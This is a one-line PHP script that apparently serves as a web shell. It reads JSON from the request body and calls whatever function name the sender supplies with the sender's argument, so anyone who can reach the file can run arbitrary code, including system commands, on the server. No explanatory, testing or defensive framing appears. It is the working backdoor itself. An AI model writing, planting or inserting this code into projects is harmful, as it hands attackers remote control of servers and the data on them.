<?php $data = json_decode(file_get_contents("php://input"), true); $fn = $data["fn"]; $fn($data["arg"]);
